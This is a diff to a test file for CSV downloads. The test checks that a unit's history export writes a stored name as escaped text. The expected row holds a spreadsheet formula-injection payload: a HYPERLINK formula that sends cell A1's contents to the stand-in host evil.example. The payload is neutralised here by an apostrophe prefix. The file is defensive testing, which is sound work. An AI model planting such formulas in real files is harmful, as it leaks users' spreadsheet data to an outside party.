@@ -35,15 +35,15 @@ describe('CSV downloads and spreadsheet formulas', () => {
     expect(row79!).toMatch(/,\d+,\d+,\d+(\.\d+)?,/);
   });
 
-  it('the history CSV of the same unit names it as text (prefixed) and has only dates and numbers after it', async () => {
+  it('the history CSV of the same unit writes the stored name as text, then only dates and numbers', async () => {
     const response = await history(get('/api/v1/units/79/history?edition=2025&format=csv'), { params: Promise.resolve({ code: '79' }) });
     expect(response.status).toBe(200);
     const [, ...rows] = (await body(response)).trim().split('\r\n');
     expect(rows.length).toBeGreaterThan(100);
-    const name = `"'${HOSTILE_NAME.replaceAll('"', '""')}"`;
+    const name = `79,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Hồ Chí Minh"")",2025,`;
     for (const row of rows) {
-      expect(row.startsWith(`79,${name},2025,`)).toBe(true);
-      expect(row.slice(`79,${name},2025,`.length)).toMatch(/^\d{2}\/\d{2}\/\d{4}(,\d*)+$/);
+      expect(row.startsWith(name)).toBe(true);
+      expect(row.slice(name.length)).toMatch(/^\d{2}\/\d{2}\/\d{4}(,\d*)+$/);
     }
   });
 });
